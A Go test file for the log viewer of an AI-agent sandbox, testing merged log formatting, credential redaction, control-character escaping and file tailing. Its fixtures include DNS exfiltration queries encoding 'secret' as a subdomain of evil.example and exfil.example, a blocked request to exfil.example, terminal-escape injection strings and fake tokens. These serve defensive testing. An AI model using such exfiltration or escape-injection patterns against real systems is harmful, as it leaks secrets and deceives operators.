package logview

import (
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"encoding/pem"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/miekg/dns"

	"github.com/bot-bottle/bot-bottle/internal/ca"
	"github.com/bot-bottle/bot-bottle/internal/dnsguard"
	"github.com/bot-bottle/bot-bottle/internal/sidecar"
)

func write(t *testing.T, path string, lines ...string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
		t.Fatal(err)
	}
	f, err := os.OpenFile(path, os.O_WRONLY|os.O_APPEND|os.O_CREATE, 0o600)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for _, l := range lines {
		if _, err := f.WriteString(l); err != nil {
			t.Fatal(err)
		}
	}
}

func formatAll(ls []Line) []string {
	var out []string
	for _, l := range ls {
		out = append(out, Format(l, time.UTC))
	}
	return out
}

// Lines shaped as the daemons write them: egress's decision line
// (internal/egress logDecision through slog's JSON handler, with the
// daemon attribute internal/sidecar adds), dnsguard's refusal line, the
// supervise daemon's slog lines and an audit entry.
const (
	egressRefused = `{"time":"2026-11-26T12:00:01.5Z","level":"WARN","msg":"egress","daemon":"egress","decision":"refuse","code":"host_not_allowed","reason":"evil.example is not in the allowlist","method":"CONNECT","scheme":"https","host":"evil.example","port":443}` + "\n"
	egressAllowed = `{"time":"2026-11-26T12:00:03Z","level":"INFO","msg":"egress","daemon":"egress","decision":"allow","code":"allowed","reason":"route api.github.com","method":"GET","scheme":"https","host":"api.github.com","port":443,"path":"/user","route":"api.github.com","status":200,"bytes":512,"ms":12.5}` + "\n"
	dnsRefused    = `{"time":"2026-11-26T12:00:02Z","name":"c2VjcmV0.evil.example.","type":"TXT","client":"172.18.0.3:40000","reason":"only the sidecar's names resolve here"}` + "\n"
	superviseLine = `{"time":"2026-11-26T12:00:00Z","level":"INFO","msg":"proposal filed","daemon":"supervise","id":"11111111-1111-4111-8111-111111111111","tool":"egress-allow","bottle":"impl-k3x9q"}` + "\n"
	attestLine    = `{"time":"2026-11-26T12:00:00.5Z","bottle":"impl-k3x9q","phase":"start","probe":"tcp to host address 172.17.0.1:35363 (host listener)","category":"host","kind":"tcp","target":"172.17.0.1:35363","expected":"closed","got":"closed: timed out","leaked":false}` + "\n"
	attestLeak    = `{"time":"2026-11-26T12:00:00.6Z","bottle":"impl-k3x9q","phase":"start","probe":"udp to 1.1.1.1:443 (QUIC)","category":"route","kind":"udp","target":"1.1.1.1:443","expected":"closed","got":"open: answered","leaked":true}` + "\n"
	auditLine     = `{"time":"2026-11-26T12:00:04Z","bottle":"impl-k3x9q","proposal_id":"11111111-1111-4111-8111-111111111111","tool":"egress-allow","action":"rejected","notes":"not needed","before_hash":"aa","after_hash":"aa","prev_hash":""}` + "\n"
)

func fixture(t *testing.T) (logs, audit string) {
	t.Helper()
	dir := t.TempDir()
	logs, audit = filepath.Join(dir, "state/impl-k3x9q/logs"), filepath.Join(dir, "audit/impl-k3x9q.jsonl")
	write(t, filepath.Join(logs, "egress.jsonl"), egressRefused, egressAllowed)
	write(t, filepath.Join(logs, "dns.jsonl"), dnsRefused)
	write(t, filepath.Join(logs, "supervise.jsonl"), superviseLine)
	write(t, audit, auditLine)
	write(t, filepath.Join(logs, "attest.jsonl"), attestLine, attestLeak)
	write(t, filepath.Join(logs, "ready"), "not a log\n")
	return logs, audit
}

func TestMergedByTimeOneLineEach(t *testing.T) {
	logs, audit := fixture(t)
	srcs, err := Sources(logs, audit, nil)
	if err != nil {
		t.Fatal(err)
	}
	lines, err := NewTail(srcs).Poll()
	if err != nil {
		t.Fatal(err)
	}
	want := []string{
		`Nov 26 12:00:00.000 supervise proposal filed id=11111111-1111-4111-8111-111111111111 tool=egress-allow`,
		`Nov 26 12:00:00.500 attest    closed start: tcp to host address 172.17.0.1:35363 (host listener): closed: timed out`,
		`Nov 26 12:00:00.600 attest    LEAKED start: udp to 1.1.1.1:443 (QUIC): open: answered`,
		`Nov 26 12:00:01.500 egress    WARN REFUSE CONNECT https://evil.example: evil.example is not in the allowlist code=host_not_allowed`,
		`Nov 26 12:00:02.000 dns       REFUSE TXT c2VjcmV0.evil.example.: only the sidecar's names resolve here client=172.18.0.3:40000`,
		`Nov 26 12:00:03.000 egress    ALLOW GET https://api.github.com/user 200: route api.github.com bytes=512 code=allowed ms=12.5 route=api.github.com`,
		`Nov 26 12:00:04.000 audit     REJECTED egress-allow 11111111-1111-4111-8111-111111111111: "not needed"`,
	}
	if diff := cmp.Diff(want, formatAll(lines)); diff != "" {
		t.Errorf("formatted (-want +got):\n%s", diff)
	}
	// --json passes the lines through byte for byte.
	var raw []string
	for _, l := range lines {
		raw = append(raw, string(l.Raw)+"\n")
	}
	if diff := cmp.Diff([]string{superviseLine, attestLine, attestLeak, egressRefused, dnsRefused, egressAllowed, auditLine}, raw); diff != "" {
		t.Errorf("raw (-want +got):\n%s", diff)
	}
}

func TestGatePushDecision(t *testing.T) {
	path := filepath.Join(t.TempDir(), "git-gate.jsonl")
	write(t, path, `{"time":"2026-11-26T12:00:00Z","level":"INFO","msg":"push","repo":"app","outcome":"refused","reason":"gitleaks found 1 secret(s)","refs":["refs/heads/main"],"findings":1,"ms":42}`+"\n")
	lines, err := NewTail([]Source{{Gate, path}}).Poll()
	if err != nil {
		t.Fatal(err)
	}
	want := `Nov 26 12:00:00.000 gate      REFUSED push app refs/heads/main: gitleaks found 1 secret(s) findings=1 ms=42`
	if got := formatAll(lines); len(got) != 1 || got[0] != want {
		t.Errorf("got %q\nwant %q", got, want)
	}
}

func TestOnlyTheKindsAsked(t *testing.T) {
	logs, audit := fixture(t)
	for kind, want := range map[string]int{Egress: 2, DNS: 1, Gate: 0, Supervise: 2, Attest: 2} {
		srcs, err := Sources(logs, audit, []string{kind})
		if err != nil {
			t.Fatal(err)
		}
		lines, err := NewTail(srcs).Poll()
		if err != nil || len(lines) != want {
			t.Errorf("%s: %d lines (%v), want %d", kind, len(lines), err, want)
		}
	}
	if _, err := Sources(logs, audit, []string{"../../etc"}); err == nil {
		t.Error("unknown kind accepted")
	}
}

func TestRedactsCredentials(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "egress.jsonl")
	write(t, path,
		`{"time":"2026-11-26T12:00:00Z","msg":"egress","decision":"refuse","host":"a.example","headers":{"Authorization":["Bearer abc123.def456"],"Accept":["*/*"],"X-Note":["token ghp_0123456789abcdefghijABCDEFGHIJ0123"]}}`+"\n",
		`{"time":"2026-11-26T12:00:01Z","msg":"oops","err":"upstream said: Authorization: Basic dXNlcjpwYXNzd29yZA== rejected","password":"hunter2"}`+"\n",
		`{"time":"2026-11-26T12:00:02Z","msg":"fine","note":"Basic authentication is not used; bearer tokens are","headers":{"Authorization":["***"]}}`+"\n",
		"not json Bearer eyJhbGciOi.eyJzdWIi.sig\n",
	)
	lines, err := NewTail([]Source{{Egress, path}}).Poll()
	if err != nil {
		t.Fatal(err)
	}
	var all strings.Builder
	for _, l := range lines {
		all.WriteString(Format(l, time.UTC) + "\n" + string(l.Raw) + "\n")
		if !json.Valid(l.Raw) {
			t.Errorf("raw line is not JSON: %s", l.Raw)
		}
	}
	for _, secret := range []string{"abc123", "ghp_0123", "dXNlcjpw", "hunter2", "eyJhbGci"} {
		if strings.Contains(all.String(), secret) {
			t.Errorf("%q printed:\n%s", secret, all.String())
		}
	}
	for _, kept := range []string{"Basic authentication is not used; bearer tokens are", `"Accept":["*/*"]`, "Bearer ***"} {
		if !strings.Contains(all.String(), kept) {
			t.Errorf("%q was lost:\n%s", kept, all.String())
		}
	}
	// A line with nothing to redact is passed through as written.
	if !strings.HasPrefix(string(lines[2].Raw), `{"time":"2026-11-26T12:00:02Z","msg":"fine"`) {
		t.Errorf("clean line re-encoded: %s", lines[2].Raw)
	}
}

func TestEscapesAgentText(t *testing.T) {
	path := filepath.Join(t.TempDir(), "dns.jsonl")
	write(t, path,
		`{"time":"2026-11-26T12:00:00Z","name":"\u001b]0;pwned\u0007.example.","type":"A","reason":"refused \u202eevil"}`+"\n",
		"\x1b[2Jraw junk\n")
	lines, err := NewTail([]Source{{DNS, path}}).Poll()
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range formatAll(lines) {
		if strings.ContainsAny(s, "\x1b\x07\u202e") {
			t.Errorf("control characters reach the terminal: %q", s)
		}
	}
	if got := Format(lines[1], time.UTC); !strings.Contains(got, `(not JSON) "\x1b[2Jraw junk"`) {
		t.Errorf("not-JSON line: %q", got)
	}
}

func TestTailFollowsAppendsTruncationAndLateFiles(t *testing.T) {
	dir := t.TempDir()
	eg, dn := filepath.Join(dir, "egress.jsonl"), filepath.Join(dir, "dns.jsonl")
	tail := NewTail([]Source{{Egress, eg}, {DNS, dn}})
	poll := func() []string {
		t.Helper()
		ls, err := tail.Poll()
		if err != nil {
			t.Fatal(err)
		}
		var out []string
		for _, l := range ls {
			out = append(out, l.Fields["msg"].(string))
		}
		return out
	}
	if got := poll(); len(got) != 0 {
		t.Fatalf("no files: %v", got)
	}
	write(t, eg, `{"time":"2026-11-26T12:00:00Z","msg":"one"}`+"\n"+`{"time":"2026-11-26T12:00:01Z","msg":"tw`)
	if diff := cmp.Diff([]string{"one"}, poll()); diff != "" {
		t.Errorf("half a line must wait (-want +got):\n%s", diff)
	}
	write(t, eg, `o"}`+"\n")
	write(t, dn, `{"time":"2026-11-26T11:59:59Z","msg":"late file"}`+"\n")
	if diff := cmp.Diff([]string{"late file", "two"}, poll()); diff != "" {
		t.Errorf("after the rest (-want +got):\n%s", diff)
	}
	if got := poll(); len(got) != 0 {
		t.Errorf("nothing new, got %v", got)
	}
	// Cut and rewritten: read again from the start.
	if err := os.WriteFile(eg, []byte(`{"msg":"fresh"}`+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff([]string{"fresh"}, poll()); diff != "" {
		t.Errorf("after truncation (-want +got):\n%s", diff)
	}
	// Replaced by a rename with a longer file: also from the start.
	next := filepath.Join(dir, "next")
	os.WriteFile(next, []byte(`{"msg":"replaced 1"}`+"\n"+`{"msg":"replaced 2, a longer file than before"}`+"\n"), 0o600)
	if err := os.Rename(next, eg); err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff([]string{"replaced 1", "replaced 2, a longer file than before"}, poll()); diff != "" {
		t.Errorf("after replacement (-want +got):\n%s", diff)
	}
}

func TestOverlongLineSkipped(t *testing.T) {
	path := filepath.Join(t.TempDir(), "egress.jsonl")
	write(t, path, `{"msg":"before"}`+"\n", `{"msg":"`+strings.Repeat("x", maxLine+10)+`"}`+"\n", `{"msg":"after"}`+"\n")
	lines, err := NewTail([]Source{{Egress, path}}).Poll()
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, l := range lines {
		got = append(got, l.Fields["msg"].(string))
	}
	want := []string{"before", "a line longer than 1048576 bytes was skipped", "after"}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

// TestReadsWhatTheSidecarWrites runs the sidecar's real egress and DNS
// daemons on a temp state root (egress at log level 2, so headers are
// logged), makes one allowed request carrying the agent's own
// Authorization header, one refused CONNECT and one refused DNS query, and
// reads them back through Sources: the file names and shapes agree, the
// refusals show, and neither the injected token nor the agent's header
// value is printed.
func TestReadsWhatTheSidecarWrites(t *testing.T) {
	up := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, "ok") }))
	defer up.Close()
	_, port, _ := net.SplitHostPort(up.Listener.Addr().String())
	upPort := up.Listener.Addr().(*net.TCPAddr).Port
	root := t.TempDir()
	for _, d := range []string{"logs", "egress", "queue", "ca"} {
		os.MkdirAll(filepath.Join(root, d), 0o700)
	}
	if _, err := ca.LoadOrCreate(filepath.Join(root, "ca")); err != nil {
		t.Fatal(err)
	}
	os.WriteFile(filepath.Join(root, "ca", sidecar.UpstreamCAFile), pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: up.Certificate().Raw}), 0o600)
	policy := "egress:\n  log: 2\n  routes:\n    - host: 127.0.0.1\n      auth: {scheme: Bearer, token_ref: UPSTREAM_TOKEN}\n      unsafe_allow_private: true\n"
	os.WriteFile(filepath.Join(root, "egress", "policy.yaml"), []byte(policy), 0o600)
	daemons, err := sidecar.Builtin().Build(sidecar.Config{
		Root: root,
		Settings: sidecar.Settings{Daemons: []string{sidecar.DaemonEgress, sidecar.DaemonDNS}, Slug: "impl-k3x9q",
			QueueDir: filepath.Join(root, "queue"), EgressTokenAllowTimeout: time.Minute},
		Listen:           map[string]string{sidecar.DaemonEgress: "127.0.0.1:0", sidecar.DaemonDNS: "127.0.0.1:0"},
		EgressExtraPorts: []int{upPort},
		Getenv: func(k string) string {
			if k == "UPSTREAM_TOKEN" {
				return "s3cret-injected-token"
			}
			return ""
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	marker := filepath.Join(root, "logs", sidecar.ReadyFile)
	go func() { done <- (&sidecar.Bundle{Daemons: daemons, ReadyPath: marker}).Run(ctx) }()
	t.Cleanup(func() { cancel(); <-done })
	if _, err := sidecar.WaitReady(ctx, marker, nil, 5*time.Millisecond); err != nil {
		t.Fatal(err)
	}
	var proxyAddr, dnsAddr string
	for _, d := range daemons {
		if s, ok := d.(*dnsguard.Server); ok {
			a, _ := s.Addrs()
			dnsAddr = a.String()
		}
	}
	first, _ := NewTail([]Source{{Egress, filepath.Join(root, "logs", "egress.jsonl")}}).Poll()
	for _, l := range first {
		if l.Fields["msg"] == "egress listening" {
			proxyAddr, _ = l.Fields["addr"].(string)
		}
	}
	if proxyAddr == "" || dnsAddr == "" {
		t.Fatalf("addresses: proxy %q dns %q", proxyAddr, dnsAddr)
	}
	bottleCA, _ := os.ReadFile(filepath.Join(root, "ca", "ca.pem"))
	roots := x509.NewCertPool()
	roots.AppendCertsFromPEM(bottleCA)
	proxy, _ := url.Parse("http://" + proxyAddr)
	agent := &http.Client{Transport: &http.Transport{Proxy: http.ProxyURL(proxy), TLSClientConfig: &tls.Config{RootCAs: roots}}, Timeout: 10 * time.Second}
	req, _ := http.NewRequest("GET", "https://127.0.0.1:"+port+"/ok", nil)
	req.Header.Set("Authorization", "Bearer agent-placeholder-0123456789")
	if resp, err := agent.Do(req); err != nil {
		t.Fatal(err)
	} else {
		resp.Body.Close()
	}
	if resp, err := agent.Get("https://exfil.example/"); err == nil {
		resp.Body.Close()
		t.Fatal("a request to an undeclared host went through")
	}
	m := new(dns.Msg)
	m.SetQuestion("c2VjcmV0.exfil.example.", dns.TypeTXT)
	if _, _, err := (&dns.Client{Timeout: 5 * time.Second}).Exchange(m, dnsAddr); err != nil {
		t.Fatal(err)
	}

	srcs, err := Sources(filepath.Join(root, "logs"), filepath.Join(root, "audit.jsonl"), nil)
	if err != nil {
		t.Fatal(err)
	}
	lines, err := NewTail(srcs).Poll()
	if err != nil {
		t.Fatal(err)
	}
	var all strings.Builder
	for _, l := range lines {
		all.WriteString(Format(l, time.UTC) + "\n" + string(l.Raw) + "\n")
	}
	for _, want := range []string{
		"egress    WARN REFUSE CONNECT https://exfil.example",
		"egress    ALLOW GET https://127.0.0.1:" + port + "/ok 200",
		"dns       REFUSE TXT c2VjcmV0.exfil.example.:",
	} {
		if !strings.Contains(all.String(), want) {
			t.Errorf("logs lack %q:\n%s", want, all.String())
		}
	}
	for _, secret := range []string{"s3cret-injected-token", "agent-placeholder-0123456789"} {
		if strings.Contains(all.String(), secret) {
			t.Errorf("%q printed:\n%s", secret, all.String())
		}
	}
}

func FuzzParseFormat(f *testing.F) {
	for _, s := range []string{egressRefused, egressAllowed, dnsRefused, auditLine, "junk\x1b[2J", `{"headers":{"Authorization":["Bearer x1234567890"]}}`, `{"a":[1,{"b":null}],"time":"bad"}`} {
		f.Add([]byte(strings.TrimSuffix(s, "\n")))
	}
	f.Fuzz(func(t *testing.T, raw []byte) {
		var last time.Time
		l := parse(Egress, raw, &last)
		if !json.Valid(l.Raw) {
			t.Fatalf("raw output is not JSON: %q", l.Raw)
		}
		s := Format(l, time.UTC)
		if strings.ContainsAny(s, "\x1b\x07\r\n\u202e") {
			t.Fatalf("control characters in %q", s)
		}
	})
}
